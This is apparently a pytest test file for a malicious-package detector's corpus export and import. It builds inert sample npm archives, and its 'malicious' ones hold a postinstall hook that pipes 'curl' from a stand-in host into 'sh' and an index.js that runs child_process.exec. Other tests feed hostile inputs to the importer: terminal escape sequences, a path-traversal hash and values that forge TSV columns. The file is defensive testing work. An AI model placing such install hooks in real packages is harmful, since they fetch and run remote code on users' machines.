"""`malseq corpus export` / `import`: a work dir written back from the export reads as the original.

The corpus is built the way `test_corpus_cli` builds one (a labelled folder of small inert
archives, analysed by the real pipeline); nothing is downloaded.
"""

from __future__ import annotations

import gzip
import json
import shutil
import sqlite3
from dataclasses import astuple
from pathlib import Path
from typing import Any

import pytest
from corpus_helpers import npm_tgz

from malseq._cli import main
from malseq_lab.corpus.cache import extractor_version
from malseq_lab.corpus.export import (
    FORMAT_VERSION,
    ExportFormatError,
    ImportRefused,
    export_corpus,
    import_corpus,
)
from malseq_lab.corpus.records import read_samples
from malseq_lab.corpus.splits import Split
from malseq_lab.evaluate.harness import EvalRow, load_rows

PASSWORD = "s3cret-zip-pw"  # a labels-file zip password: must not reach the export


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A built work dir: 24 analysed archives (one twice under two names, one unreadable), one cache row
    removed (a "missing" sample), and its time split."""
    root = tmp_path_factory.mktemp("export")
    data = root / "data"
    data.mkdir()
    lines = ["path\tlabel\tecosystem\tstratum\tadded\tzip_password"]
    for i in range(22):
        if i % 2:
            body = npm_tgz(f"m{i}", "1.0.0", {"postinstall": f"curl http://198.51.100.{i}/x | sh"},
                           {"index.js": f"require('child_process').exec(process.env.T{i})".encode()})
            lines.append(f"m{i}.tgz\tmalicious\tnpm\tmalicious\t2026-0{1 + i % 9}-1{i % 10}\t{PASSWORD}")
        else:
            body = npm_tgz(f"b{i}", "1.0.0", files={"index.js": f"module.exports = (a) => a + {i} * {i};\n".encode()})
            lines.append(f"b{i}.tgz\tbenign\tnpm\t{'popular' if i % 4 else 'long-tail'}\t\t")
        (data / lines[-1].split("\t")[0]).write_bytes(body)
    # the same archive under a second name: load_rows reads the first samples.tsv row of an archive
    shutil.copy(data / "m1.tgz", data / "m1-copy.tgz")
    lines.append("m1-copy.tgz\tmalicious\tnpm\tother-stratum\t2026-01-11\t")
    (data / "broken.tgz").write_bytes(b"\x1f\x8b not really gzip")  # an analysis error row
    lines.append("broken.tgz\tbenign\tnpm\tpopular\t\t")
    (data / "labels.tsv").write_text("\n".join(lines) + "\n")
    wd = root / "work"
    assert main(["corpus", "build", "--workdir", str(wd), "--no-default-sources", "--folder", str(data),
                 "--no-download", "--jobs", "1", "--timeout", "20"]) == 0
    # a sample whose analysis is not in the cache at the running code's version
    gone = next(s.sha256 for s in read_samples(wd / "samples.tsv") if s.name == "b4.tgz")
    with sqlite3.connect(wd / "analysis.sqlite") as db:
        db.execute("DELETE FROM analyses WHERE sha256=?", (gone,))
    return wd


def _fields(row: EvalRow) -> tuple[Any, ...]:
    # everything training and evaluation read; `path` (the archive) is machine-local and not exported
    return (row.key, row.ecosystem, row.name, row.version, row.label, row.stratum, row.split, row.status,
            row.behaviours, row.sequence, row.sequence_text, row.seconds)


def _records(path: Path) -> list[dict[str, Any]]:
    with gzip.open(path, "rt", encoding="utf-8") as fh:
        return [json.loads(line) for line in fh]


def _write(path: Path, records: list[dict[str, Any]]) -> None:
    with gzip.open(path, "wt", encoding="utf-8") as fh:
        fh.writelines(json.dumps(r) + "\n" for r in records)


def test_an_imported_work_dir_gives_the_same_rows_in_the_same_order(built: Path, tmp_path: Path) -> None:
    original, split = load_rows(built, built / "split-time.json")
    statuses = {r.status for r in original}
    assert {"ok", "missing"} <= statuses and len(statuses) >= 3  # an error row is exported too
    assert [r.key for r in original] != sorted(r.key for r in original)  # the export's line order is not this
    assert sum(r.name == "m1.tgz" for r in original) == 1 and not any(r.name == "m1-copy.tgz" for r in original)

    summary = export_corpus(built, tmp_path / "corpus.jsonl.gz")
    assert summary.samples == len(split.assignments) == len(original)
    assert summary.by_status["missing"] == 1 and sum(summary.by_status.values()) == len(original)

    fresh = tmp_path / "fresh"
    imported = import_corpus(tmp_path / "corpus.jsonl.gz", fresh, log=lambda m: pytest.fail(m))
    assert imported.version_matches and imported.split_path == fresh / "split-time.json"
    assert imported.cache_rows == len(original) - 1
    again, split_again = load_rows(fresh, fresh / "split-time.json")
    # same rows, and in the same order: training's seeded shuffles run over this list
    assert [_fields(r) for r in again] == [_fields(r) for r in original]
    assert all(r.path == "" and r.zip_password == "" for r in again)
    assert split_again.assignments == split.assignments and split_again.groups == split.groups
    assert split_again.meta == split.meta
    # the split file is written exactly as `corpus build` wrote it
    assert (fresh / "split-time.json").read_bytes() == (built / "split-time.json").read_bytes()


def test_export_is_byte_identical_and_holds_no_archive_paths_or_passwords(built: Path, tmp_path: Path) -> None:
    def contents() -> dict[str, bytes]:
        # SQLite's -wal/-shm sidecars are left out: any reader of a WAL database may create them
        files = [p for p in built.iterdir() if p.is_file() and not p.name.endswith(("-wal", "-shm"))]
        return {p.name: p.read_bytes() for p in files}

    before = contents()
    first = export_corpus(built, tmp_path / "a.jsonl.gz")
    second = export_corpus(built, tmp_path / "sub" / "b.jsonl.gz")
    assert first.path.read_bytes() == second.path.read_bytes()
    # the export only reads the work dir (the cache is opened read-only)
    assert contents() == before
    # exporting an imported work dir gives the same bytes: nothing training reads was lost on the way
    import_corpus(first.path, tmp_path / "fresh")
    assert export_corpus(tmp_path / "fresh", tmp_path / "c.jsonl.gz").path.read_bytes() == first.path.read_bytes()

    text = gzip.decompress(first.path.read_bytes()).decode()
    assert str(built.parent) not in text and PASSWORD not in text and '"path"' not in text
    header, *lines = _records(first.path)
    assert header["format_version"] == FORMAT_VERSION and header["extractor_version"] == extractor_version()
    assert header["counts"]["samples"] == len(lines)
    assert [r["sha256"] for r in lines] == sorted(r["sha256"] for r in lines)
    ok = next(r for r in lines if r["analysis"]["status"] == "ok" and r["analysis"]["events"])
    assert all(len(e) == 2 for e in ok["analysis"]["events"])  # [behaviour, scope]: no file, no line


def test_import_warns_when_the_analyses_are_not_the_running_codes(
    built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export_corpus(built, tmp_path / "corpus.jsonl.gz")
    header, *lines = _records(tmp_path / "corpus.jsonl.gz")
    header["extractor_version"] = "0.0.1+analysis.0123456789abcdef+fp.1"
    _write(tmp_path / "old.jsonl.gz", [header, *lines])
    assert main(["corpus", "import", str(tmp_path / "old.jsonl.gz"), "--workdir", str(tmp_path / "w")]) == 0
    err = capsys.readouterr().err
    assert "0.0.1+analysis.0123456789abcdef+fp.1" in err and extractor_version() in err
    assert "malseq corpus build" in err and "would find no rows" in err
    # what it warned about: the rows are there under the old key, training at this code's sees none
    rows, _ = load_rows(tmp_path / "w", tmp_path / "w" / "split-time.json")
    assert len(rows) == len(lines) and {r.status for r in rows} == {"missing"}


def test_import_refuses_unknown_formats_and_truncated_files(
    built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    export_corpus(built, tmp_path / "corpus.jsonl.gz")
    header, *lines = _records(tmp_path / "corpus.jsonl.gz")
    _write(tmp_path / "future.jsonl.gz", [{**header, "format_version": FORMAT_VERSION + 1}, *lines])
    assert main(["corpus", "import", str(tmp_path / "future.jsonl.gz"), "--workdir", str(tmp_path / "w")]) == 2
    assert f"format version {FORMAT_VERSION + 1} is unknown" in capsys.readouterr().err
    assert not (tmp_path / "w").exists()  # refused before anything was written

    _write(tmp_path / "other.jsonl.gz", [{"format": "something-else"}])
    with pytest.raises(ExportFormatError, match="not a malseq corpus export"):
        import_corpus(tmp_path / "other.jsonl.gz", tmp_path / "w")
    _write(tmp_path / "short.jsonl.gz", [header, *lines[:-1]])
    with pytest.raises(ExportFormatError, match="truncated"):
        import_corpus(tmp_path / "short.jsonl.gz", tmp_path / "w")
    (tmp_path / "plain.jsonl").write_text(json.dumps(header) + "\n")
    with pytest.raises(ExportFormatError, match="not a readable gzip file"):
        import_corpus(tmp_path / "plain.jsonl", tmp_path / "w")
    bad = [header, *lines[:-1], {**lines[-1], "analysis": {**lines[-1]["analysis"], "status": "great"}}]
    _write(tmp_path / "bad.jsonl.gz", bad)
    with pytest.raises(ExportFormatError, match=f"line {len(lines) + 1} is not a sample line"):
        import_corpus(tmp_path / "bad.jsonl.gz", tmp_path / "w")


def test_import_refuses_hostile_files_before_writing_anything(
    built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """An export may come from elsewhere: what reaches the terminal, memory or the work dir is bounded."""
    import malseq_lab.corpus.export as export

    export_corpus(built, tmp_path / "corpus.jsonl.gz")
    header, *lines = _records(tmp_path / "corpus.jsonl.gz")
    target = tmp_path / "w"

    def refused(records: list[dict[str, Any]] | bytes, match: str) -> None:
        path = tmp_path / "hostile.jsonl.gz"
        if isinstance(records, bytes):
            path.write_bytes(gzip.compress(records))
        else:
            _write(path, records)
        with pytest.raises(ExportFormatError, match=match):
            import_corpus(path, target, log=lambda m: pytest.fail(m))
        assert not target.exists()

    # terminal control sequences in the version the warning would print: refused, never printed
    refused([{**header, "extractor_version": "\x1b]0;owned\x07\x1b[2J"}, *lines], "extractor_version is not one")
    _write(tmp_path / "esc.jsonl.gz", [{**header, "extractor_version": "\x1b[2Jx"}, *lines])
    assert main(["corpus", "import", str(tmp_path / "esc.jsonl.gz"), "--workdir", str(target)]) == 2
    assert "\x1b" not in capsys.readouterr().err
    # nesting deeper than json reads: a format error (exit 2), not a RecursionError traceback
    refused(json.dumps(header).encode() + b"\n" + b"[" * 100_000 + b"\n", "line 2 is not JSON")
    # one endless line (a gzip bomb compresses a GB of one byte to a MB): refused at the line cap,
    # while a file whose longest line fits the cap imports
    longest = max(len(json.dumps(r)) + 1 for r in [header, *lines])
    monkeypatch.setattr(export, "MAX_LINE_BYTES", longest)
    import_corpus(tmp_path / "corpus.jsonl.gz", tmp_path / "fits")
    refused(json.dumps(header).encode() + b"\n" + b"a" * (longest + 1), "line 2 is longer than")
    monkeypatch.undo()
    # a sha256 that is not one (a path), a duplicate line, a label that is not 0/1, a string for a list
    refused([header, {**lines[0], "sha256": "../../x"}, *lines[1:]], "not 64 lowercase hex")
    refused([{**header, "counts": {**header["counts"], "samples": len(lines)}}, lines[0], lines[0], *lines[2:]],
            "already on an earlier line")
    sampled = next(r for r in lines if r["sample"] is not None)
    refused([header, *[r if r is not sampled else {**r, "sample": {**r["sample"], "label": 7}} for r in lines]],
            "label 7")
    # a tab or newline in a name would forge columns or rows of samples.tsv
    for field, value in (("name", "left-pad\tpypi\tevil"), ("version", "1.0\nnpm\tx"), ("stratum", "a\x1b[2Jb")):
        refused([header, *[r if r is not sampled else {**r, "sample": {**r["sample"], field: value}} for r in lines]],
                f"sample {field} .* control characters")
    ok = next(r for r in lines if r["analysis"]["status"] == "ok" and r["analysis"]["events"])
    refused([header, *[r if r is not ok else {**r, "analysis": {**r["analysis"], "sequence_ids": "123"}}
                       for r in lines]], "sequence_ids is not a list")
    refused([header, *[r if r is not ok else {**r, "analysis": {**r["analysis"], "events": ["ab"]}}
                       for r in lines]], "not \\[behaviour, scope\\] pairs")
    # more lines than the header counts: refused at the first extra one, not after reading them all
    refused([{**header, "counts": {**header["counts"], "samples": 1}}, *lines], "more sample lines than")
    refused([{**header, "counts": {**header["counts"], "samples": "many"}}, *lines], "not a count")


def test_import_does_not_overwrite_a_corpus_without_force(
    built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "corpus.jsonl.gz"
    assert main(["corpus", "export", "--workdir", str(built), "--out", str(out)]) == 0
    assert "exported" in capsys.readouterr().out
    target = tmp_path / "w"
    assert main(["corpus", "import", str(out), "--workdir", str(target)]) == 0
    (target / "samples.tsv").write_text("edited\n")
    assert main(["corpus", "import", str(out), "--workdir", str(target)]) == 2
    assert "already holds a corpus" in capsys.readouterr().err
    assert (target / "samples.tsv").read_text() == "edited\n"
    with pytest.raises(ImportRefused):
        import_corpus(out, target)
    assert main(["corpus", "import", str(out), "--workdir", str(target), "--force"]) == 0
    # compared with an import into an empty dir (target is tmp_path / "w": comparing with it compared
    # the file with itself)
    import_corpus(out, tmp_path / "fresh")
    assert [astuple(s) for s in read_samples(target / "samples.tsv")] == [
        astuple(s) for s in read_samples(tmp_path / "fresh" / "samples.tsv")
    ]
    assert len(read_samples(target / "samples.tsv")) == len(Split.load(target / "split-time.json").assignments)
    # the earlier corpus's split of the other protocol would be read beside the new samples: removed
    (target / "split.json").write_text("{}")
    assert main(["corpus", "import", str(out), "--workdir", str(target), "--force"]) == 0
    assert not (target / "split.json").exists() and (target / "split-time.json").exists()
    assert "removed" in capsys.readouterr().err


def test_import_with_force_keeps_the_full_cache_rows_of_a_built_work_dir(built: Path, tmp_path: Path) -> None:
    # the export's rows are reduced (no event file/line, no fingerprint): over a built work dir they
    # must not replace the rows its analyses wrote, which `corpus build` would then trust as cached
    from malseq_lab.corpus.cache import AnalysisCache

    work = tmp_path / "work"
    shutil.copytree(built, work)
    out = export_corpus(work, tmp_path / "corpus.jsonl.gz").path
    keys = sorted(Split.load(work / "split-time.json").assignments)
    with AnalysisCache(work / "analysis.sqlite", readonly=True) as cache:
        before = cache.get_many(keys, extractor_version())
    assert any(r.fingerprint is not None for r in before.values())
    assert any(e.get("file") for r in before.values() for e in r.events)
    summary = import_corpus(out, work, force=True)
    assert summary.cache_rows == len(before)
    with AnalysisCache(work / "analysis.sqlite", readonly=True) as cache:
        assert cache.get_many(keys, extractor_version()) == before
    rows, _ = load_rows(work, work / "split-time.json")
    assert [_fields(r) for r in rows] == [_fields(r) for r in load_rows(built, built / "split-time.json")[0]]


def test_eval_runs_on_an_imported_work_dir(built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "corpus.jsonl.gz"
    export_corpus(built, out)
    target = tmp_path / "w"
    import_corpus(out, target)
    assert main(["eval", "--workdir", str(target), "--models", "rules", "--out", str(tmp_path / "imp")]) == 0
    assert main(["eval", "--workdir", str(built), "--models", "rules", "--out", str(tmp_path / "orig")]) == 0
    imp = json.loads((tmp_path / "imp" / "metrics.json").read_text())
    orig = json.loads((tmp_path / "orig" / "metrics.json").read_text())
    for key in ("counts", "analysis_errors", "analysis_seconds_per_package", "split"):
        assert imp[key] == orig[key]
    assert imp["models"]["rules"]["all"] == orig["models"]["rules"]["all"]
    # another protocol's split cannot be made without the archives: said, not an empty split
    capsys.readouterr()
    assert main(["eval", "--workdir", str(target), "--protocol", "random", "--models", "rules"]) == 3
    assert "lists no archives" in capsys.readouterr().err and not (target / "split.json").exists()
